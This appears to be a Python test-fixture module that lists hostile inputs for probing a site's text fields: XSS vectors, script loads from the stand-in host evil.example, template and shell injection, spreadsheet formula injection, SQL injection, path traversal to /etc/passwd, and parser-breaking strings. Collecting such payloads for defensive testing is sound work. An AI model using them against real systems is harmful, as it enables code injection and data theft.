"""Texts that try to run code, to leave a page or to break one, for every text field of a record.

After OWASP's cheat sheet on filter evasion, in the spirit of the Big List of Naughty Strings, after
CommonMark's pathological inputs, and for what our own pages are made with. What runs calls `canary`.
"""

from __future__ import annotations

CANARY = "canary"
"""The name of the global that a payload which runs would set, or call."""

ELSEWHERE = "evil.example"
"""A host that nothing may be asked of."""

_RUN = f"window.{CANARY}=1;alert(1)"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x:x onerror={_RUN}//",
    f"<image src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'>",
    f"<iframe src=//{ELSEWHERE}/>",
    f"<object data=//{ELSEWHERE}/x.swf>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<base href=//{ELSEWHERE}/>",
    f"<form action=//{ELSEWHERE}/><button>x",
    f"<style>@import'//{ELSEWHERE}/x.css';</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<a href=javascript:{_RUN}>x</a>",
    "<!--",
    "<![CDATA[",
    "<?php",
    "</div></div></article></body></html>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"＜script＞{_RUN}＜/script＞",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
]

ATTRIBUTES = [
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"` onmouseover=`{_RUN}",
    f'" autofocus tabindex=1 onfocus="{_RUN}" x="',
    f'" style="position:fixed;inset:0;background:url(//{ELSEWHERE}/x)',
    f"x{{: onclick={_RUN} tabindex=0 }}",
    f"**x**{{: autofocus=1 tabindex=0 onfocus={_RUN} }}",
    f"[x](https://a.cn){{: onclick={_RUN} }}",
    "{: #content .cb style='display:none' }",
    "x\n{: style='position:fixed' }",
]

LINKS = [
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java&#10;script:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{_RUN})",
    "[x](file:///etc/passwd)",
    f"[x](//{ELSEWHERE}/)",
    f"[x](\\\\{ELSEWHERE}\\x)",
    f"[x](https://a.cn/\"onmouseover=\"{_RUN})",
    f"[x](https://a.cn/'onmouseover='{_RUN})",
    f"[x](<https://a.cn/ onmouseover={_RUN}>)",
    f"[x](https://a.cn 'x\" onmouseover=\"{_RUN}')",
    f"<javascript:{_RUN}>",
    f"<https://a.cn/\"onmouseover=\"{_RUN}>",
    f"![x](//{ELSEWHERE}/x.png)",
    f"![x](x\"onerror=\"{_RUN})",
    f"[x]: javascript:{_RUN}\n[x]",
    "[x](case:../../../etc/passwd)", "[x](case:constructor#__proto__)", "[x](case:full#\"onclick=\"x)",
]  # fmt: skip

TEMPLATES = [
    "{{ 7*7 }}", "{{ config }}", "{% include '/etc/passwd' %}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "`${alert(1)}`", "{{{x}}}", "{n}", "{0.__class__}",
    "%s%n%x", "$HOME", "`id`", "$(id)", "!!python/object/apply:os.system [id]", "!!js/function 'x'",
    "&a *a", "<<: *a", "--8<-- \"/etc/passwd\"", ";--8<--", "!!! danger \"x\"\n    x", "??? note\n    x",
    "=== \"x\"\n\n    x", "[TOC]", "[^1]: x", "*[HTML]: x", "::: casebook", ":material-account:", "$$x$$",
    "casebook-mark-body", "casebook-mark-head casebook-mark-scripts casebook-mark-title", "\\1 \\g<0> \\\\",
    "data-pagefind-ignore", "<div data-pagefind-ignore>",
]  # fmt: skip

NAUGHTY = [
    "undefined", "null", "NaN", "true", "constructor", "__proto__", "toString", "valueOf", "hasOwnProperty",
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\",\"x\")",
    "\t=1+1", "1;DROP TABLE users", "' OR 1=1--", "../../../../etc/passwd", "C:\\CON\\NUL", "\\\\evil.example\\x",
    "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "표표표", "̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙", "👩‍👩‍👧‍👦 🇨🇳 🏳️‍🌈", "مرحبا", "שלום", "𝕳𝖊𝖑𝖑𝖔", "ﷺ" * 4,
    "\u202ecod.exe\u202c", "a\u200bb", "\ufeffx", "\x07bell", "\x00nul", "\u2028line", "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "\ue000private", "\u0430lookalike", "x" * 300, "长" * 300, "https://a.cn/" + "a" * 300, '"' * 40 + "https://a.cn/" + "b" * 200,
    "a" * 60 + "-" + "b" * 60, "&amp;&amp;" * 20, "\\" * 40,
]  # fmt: skip

PATHOLOGICAL = [
    "*" * 500 + "a", "**a " * 200, "_a __b " * 200, "[" * 500, "[a](" * 200, "![" * 200, "`" * 400 + "a",
    "> " * 100 + "a", "- " * 100 + "a", "1. " * 50 + "a", "<" * 300, "<a " * 100, "&" * 300, "\\" * 301,
    "a\n" * 60, "a\n===\n" * 10, "[a]: b\n" * 20, "|" * 200, "~" * 300, "(" * 300 + ")" * 300, "\n\n\n",
    "    code\n\ttab", "```\n<script>alert(1)</script>", "***", "# x", "a  \nb", "* a\n * b\n  * c\n   * d",
]  # fmt: skip

PAYLOADS = [*SCRIPTS, *ATTRIBUTES, *LINKS, *TEMPLATES, *NAUGHTY, *PATHOLOGICAL]
